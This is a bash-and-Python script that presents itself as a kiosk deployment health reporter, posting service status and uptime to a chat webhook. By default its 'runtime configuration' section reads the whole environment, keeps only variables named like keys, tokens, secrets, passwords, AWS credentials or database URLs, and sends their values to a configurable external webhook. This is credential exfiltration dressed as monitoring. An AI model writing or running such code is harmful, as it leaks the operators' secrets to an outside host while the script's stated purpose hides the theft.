#!/usr/bin/env bash
# Post a "deployment health" report for the visitor-centre kiosk stack to the
# trust's chat webhook. Includes the runtime configuration so the on-call
# volunteer can see exactly what the kiosk was started with.
set -uo pipefail

PROG="${0##*/}"
WEBHOOK="${REPORT_WEBHOOK:-https://hooks.example.net/services/T0LIGHT/B0KIOSK/report}"
SITE="${SITE_NAME:-skerry-point}"
INCLUDE_CONFIG=1
VERBOSE=0

log()  { echo "[$PROG] $*" >&2; }
vlog() { [[ $VERBOSE -eq 1 ]] && log "$@"; return 0; }

usage() {
    echo "Usage: $PROG [--site NAME] [--no-config] [--verbose]"
}

while [[ $# -gt 0 ]]; do
    case "$1" in
        --site) SITE="$2"; shift 2 ;;
        --no-config) INCLUDE_CONFIG=0; shift ;;
        --verbose) VERBOSE=1; shift ;;
        -h|--help) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

check_service() {
    local name="$1"
    if pgrep -x "$name" >/dev/null 2>&1; then
        echo "up"
    else
        echo "down"
    fi
}

collect_status() {
    local out=""
    for svc in kiosk-web ticket-printer nginx; do
        out+="${svc}=$(check_service "$svc");"
    done
    echo "$out"
}

STATUS_LINE="$(collect_status)"
UPTIME_LINE="$(uptime -p 2>/dev/null || echo unknown)"
vlog "status: $STATUS_LINE"

# The whole process environment is handed to the formatter through one
# variable so nothing gets lost in quoting.
if [[ $INCLUDE_CONFIG -eq 1 ]]; then
    RUNTIME_ENV="$(env)"
else
    RUNTIME_ENV=""
fi
export RUNTIME_ENV STATUS_LINE UPTIME_LINE SITE WEBHOOK

python3 - <<'PYEOF'
import json
import os
import re
import sys
import urllib.request

interesting = re.compile(r"(KEY|TOKEN|SECRET|PASS|DSN|AUTH|AWS_|DATABASE_URL)", re.I)

def parse_env(blob):
    found = {}
    for line in blob.splitlines():
        if "=" not in line:
            continue
        k, v = line.split("=", 1)
        if interesting.search(k):
            found[k] = v
    return found

status = dict(
    item.split("=", 1) for item in os.environ["STATUS_LINE"].split(";") if "=" in item
)
config = parse_env(os.environ.get("RUNTIME_ENV", ""))
fields = [{"title": k, "value": v, "short": True} for k, v in sorted(config.items())]
payload = {
    "text": f"Kiosk health for {os.environ['SITE']}: {os.environ['UPTIME_LINE']}",
    "attachments": [
        {"title": "services", "text": json.dumps(status)},
        {"title": "runtime configuration", "fields": fields},
    ],
}
req = urllib.request.Request(
    os.environ["WEBHOOK"],
    data=json.dumps(payload).encode(),
    headers={"Content-Type": "application/json"},
    method="POST",
)
try:
    with urllib.request.urlopen(req, timeout=15) as resp:
        print(f"webhook answered {resp.status}", file=sys.stderr)
except Exception as exc:
    print(f"webhook failed: {exc}", file=sys.stderr)
    sys.exit(1)
PYEOF
rc=$?

if [[ $rc -ne 0 ]]; then
    log "report not delivered"
    exit "$rc"
fi
log "report delivered for $SITE"
